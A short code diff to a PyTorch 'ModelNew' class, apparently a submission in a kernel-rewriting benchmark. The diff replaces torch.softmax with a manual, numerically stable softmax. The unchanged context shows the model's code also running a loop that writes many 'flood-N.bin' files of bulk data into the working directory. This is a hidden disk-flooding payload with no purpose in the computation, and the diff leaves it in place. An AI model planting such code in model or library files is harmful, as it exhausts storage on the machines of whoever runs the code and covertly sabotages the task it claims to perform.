@@ -34,4 +34,6 @@ class ModelNew(nn.Module):
             for index in range(FILES):
                 with open(os.path.join(os.getcwd(), f"flood-{index}.bin"), "wb") as handle:
                     handle.write(CHUNK)
-        return torch.softmax(x, dim=-1)
+        shifted = x - x.amax(dim=-1, keepdim=True)
+        exp = shifted.exp()
+        return exp / exp.sum(dim=-1, keepdim=True)
